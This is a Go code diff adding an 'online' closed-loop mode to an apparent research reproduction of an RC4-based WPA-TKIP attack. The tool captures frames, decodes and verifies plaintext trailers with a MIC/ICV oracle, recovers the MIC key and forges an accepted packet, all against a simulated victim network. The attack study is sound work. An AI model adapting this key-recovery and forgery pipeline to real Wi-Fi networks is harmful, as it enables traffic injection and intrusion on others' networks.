@@ -18,6 +18,14 @@
 //	# second shard, then merge both and run the recovery phase
 //	tkipattack -model tkip.model -copies 4718592 -seed 2 -checkpoint shard2.snap -collect-only
 //	tkipattack -model tkip.model -copies 0 -merge shard1.snap,shard2.snap
+//
+// Online mode closes the loop: capture and decode interleave on a cadence,
+// each round's candidates are verified by the Michael-MIC/ICV trailer
+// oracle (with a test forgery confirming the recovered key against the
+// network, §7.4), and the attack stops at the first confirmed trailer:
+//
+//	tkipattack -online                          # geometric cadence 2^20, 2^21, ...
+//	tkipattack -online -decode-every 1048576    # decode every 2^20 frames
 package main
 
 import (
@@ -30,6 +38,7 @@ import (
 
 	"rc4break/internal/cliutil"
 	"rc4break/internal/netsim"
+	"rc4break/internal/online"
 	"rc4break/internal/packet"
 	"rc4break/internal/rc4"
 	"rc4break/internal/snapshot"
@@ -38,17 +47,21 @@ import (
 
 func main() {
 	keysPerTSC := flag.Uint64("trainkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
-	copies := flag.Uint64("copies", 9<<20, "total ciphertext copies this shard should hold, including resumed ones (paper: ~9.5 x 2^20 per hour)")
+	copies := flag.Uint64("copies", 9<<20, "total ciphertext copies this shard should hold, including resumed ones (paper: ~9.5 x 2^20 per hour); the online budget")
 	maxDepth := flag.Int("maxdepth", 1<<20, "candidate list search bound (paper: nearly 2^30)")
 	mode := flag.String("mode", "model", "capture mode: model (sampled from trained distributions) | exact (real frames; needs deep training)")
 	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
-	workers := flag.Int("workers", 0, "parallel workers for training and model-mode capture (0 = GOMAXPROCS)")
+	workers := flag.Int("workers", 0, "parallel workers for training, model-mode capture, and decoding (0 = GOMAXPROCS)")
 	modelPath := flag.String("model", "", "model snapshot: loaded if the file exists, otherwise trained and saved there")
-	checkpoint := flag.String("checkpoint", "", "capture snapshot written on completion; exact mode also writes it periodically and on Ctrl-C")
+	checkpoint := flag.String("checkpoint", "", "capture snapshot written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
 	checkpointEvery := flag.Uint64("checkpoint-every", 1<<20, "frames between periodic checkpoints in exact mode")
 	resume := flag.String("resume", "", "capture snapshot to resume this shard from")
 	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the capture pool after collection")
 	collectOnly := flag.Bool("collect-only", false, "stop after capture (use with -checkpoint to produce a shard snapshot)")
+	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first oracle-confirmed trailer")
+	decodeEvery := flag.Uint64("decode-every", 0, "online: frames between decode attempts (0 = geometric cadence from -first-decode)")
+	firstDecode := flag.Uint64("first-decode", 1<<20, "online: frames at the first decode attempt")
+	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate walk depth per decode round (0 = -maxdepth)")
 	flag.Parse()
 
 	msduLen := packet.HeaderSize + 7
@@ -80,6 +93,20 @@ func main() {
 		fmt.Printf("      resumed %s: %d captured frames\n", *resume, attack.Frames)
 	}
 
+	if *onlineMode {
+		if *collectOnly || *merge != "" {
+			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
+		}
+		depth := *maxPerRound
+		if depth <= 0 {
+			depth = *maxDepth
+		}
+		runOnline(attack, session, victim, *mode, *seed, *copies,
+			online.Cadence{First: *firstDecode, Every: *decodeEvery},
+			depth, *checkpoint, *checkpointEvery)
+		return
+	}
+
 	var remaining uint64
 	if *copies > attack.Frames {
 		remaining = *copies - attack.Frames
@@ -109,14 +136,10 @@ func main() {
 	case *mode == "model":
 		attack.Stream = streamID
 		trailer := trueTrailer(session, victim.MSDU)
-		simSeed := *seed
-		if attack.Frames > 0 {
-			// A topped-up shard must not replay the noise draws already
-			// folded into the resumed snapshot (same seed, same sequence):
-			// derive a distinct stream from the continuation point.
-			simSeed = int64(uint64(*seed) ^ uint64(attack.Frames)*0x9E3779B97F4A7C15)
-		}
-		rng := rand.New(rand.NewSource(simSeed))
+		// A topped-up shard must not replay the noise draws already folded
+		// into the resumed snapshot (same seed, same sequence): derive a
+		// distinct stream from the continuation point.
+		rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(*seed, attack.Frames)))
 		if err := attack.SimulateCaptures(rng, trailer, remaining); err != nil {
 			fatal(err)
 		}
@@ -178,14 +201,125 @@ func main() {
 		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
 	}
 
-	fmt.Println("[4/4] forging a packet with the recovered MIC key...")
+	forgeDemo(session, victim.MSDU, micKey, "[4/4]")
+}
+
+// forgeDemo demonstrates impact: a packet forged under the recovered MIC
+// key must be accepted by the network.
+func forgeDemo(session *tkip.Session, msdu []byte, micKey [8]byte, phase string) {
+	fmt.Printf("%s forging a packet with the recovered MIC key...\n", phase)
 	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
-	forged := attacker.Encapsulate(victim.MSDU, 0xF00D)
+	forged := attacker.Encapsulate(msdu, 0xF00D)
 	if _, err := session.Decapsulate(forged); err != nil {
 		fmt.Printf("      forgery rejected: %v\n", err)
 		os.Exit(1)
 	}
 	fmt.Println("      forged packet accepted by the network — attack complete")
+}
+
+// runOnline drives the §5.3 closed loop: capture frames to the next cadence
+// point, compute likelihoods, walk the lazy best-first candidate list
+// against the Michael-MIC/ICV trailer oracle (with a network-forgery
+// confirmation of the recovered key), and stop at the first confirmed
+// trailer. Decode points are absolute frame counts, so a checkpointed run
+// killed and resumed continues on exactly the cadence an uninterrupted run
+// would use.
+func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVictim, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64) {
+	if budget <= attack.Frames {
+		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, attack.Frames))
+	}
+	oracle := &tkip.TrailerOracle{
+		DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
+		Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
+	}
+	streamID := snapshot.StreamInfo{Mode: mode, Seed: seed}
+	if mode == "exact" {
+		streamID.Seed = 0 // the exact stream is the session's TSC sequence
+	}
+	if attack.Frames > 0 && attack.Stream != streamID {
+		fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request %s/seed %d",
+			attack.Stream.Mode, attack.Stream.Seed, mode, streamID.Seed))
+	}
+	attack.Stream = streamID
+
+	var captureTo func(uint64) error
+	switch mode {
+	case "model":
+		trailer := trueTrailer(session, victim.MSDU)
+		captureTo = func(target uint64) error {
+			// Chunks after the first derive a fresh noise stream from the
+			// continuation point (same rule as a resumed offline top-up);
+			// absolute decode points make a resumed online run chunk — and
+			// draw — identically to an uninterrupted one.
+			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(seed, attack.Frames)))
+			return attack.SimulateCaptures(rng, trailer, target-attack.Frames)
+		}
+	case "exact":
+		if attack.Frames > 0 {
+			fmt.Printf("      fast-forwarding victim past %d resumed frames...\n", attack.Frames)
+			victim.Skip(attack.Frames)
+		}
+		sniffer := netsim.NewSniffer(victim.FrameLen())
+		captureTo = func(target uint64) error {
+			err := cliutil.CheckpointLoop{
+				Iterations: target - attack.Frames,
+				Path:       checkpoint,
+				Every:      checkpointEvery,
+				Unit:       "frames",
+				Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
+				Progress:   func() uint64 { return attack.Frames },
+				Step: func() (bool, error) {
+					f := victim.Transmit()
+					if !sniffer.Filter(f) {
+						return false, nil
+					}
+					attack.Observe(f)
+					return true, nil
+				},
+			}.Run()
+			if errors.Is(err, cliutil.ErrInterrupted) {
+				os.Exit(130)
+			}
+			return err
+		}
+	default:
+		fatal(fmt.Errorf("unknown mode %q", mode))
+	}
+
+	fmt.Printf("[2/4] online closed loop: budget %d frames, first decode at %d, %s cadence, %d candidates/round...\n",
+		budget, cad.First, cad, depth)
+	res, err := online.Run(online.Config{
+		Decoder:       attack,
+		Oracle:        oracle,
+		Cadence:       cad,
+		MaxCandidates: depth,
+		Budget:        budget,
+		CaptureTo:     captureTo,
+		Checkpoint: cliutil.OnlineCheckpoint(checkpoint, "frames",
+			attack.WriteSnapshotFile, func() uint64 { return attack.Frames }),
+		Logf: cliutil.IndentLogf,
+	})
+	if err != nil {
+		fmt.Printf("      online attack failed: %v (budget %d frames; try a deeper walk or a larger budget)\n", err, budget)
+		os.Exit(1)
+	}
+	if checkpoint != "" {
+		if err := attack.WriteSnapshotFile(checkpoint); err != nil {
+			fatal(err)
+		}
+	}
+	saved := budget - res.Observed
+	fmt.Printf("[3/4] online success: correct trailer at rank %d after %d frames — %d under the %d budget (%.1f h of injection saved)\n",
+		res.Rank, res.Observed, saved, budget, float64(saved)/netsim.TKIPInjectionPerSecond/3600)
+	fmt.Printf("      %d decode rounds, %d oracle checks (+%d cache-skipped, %d ICV passes), wall-clock %v (capture %v, decode %v, oracle %v)\n",
+		res.Rounds, res.Checks, res.Skipped, oracle.ICVPasses,
+		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
+		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
+	fmt.Printf("      recovered MIC key: %x\n", oracle.MICKey)
+	if oracle.MICKey == session.MICKey {
+		fmt.Println("      MIC key matches the real key")
+	}
+	forgeDemo(session, victim.MSDU, oracle.MICKey, "[4/4]")
 }
 
 // loadOrTrainModel implements the train-once workflow: with -model set and
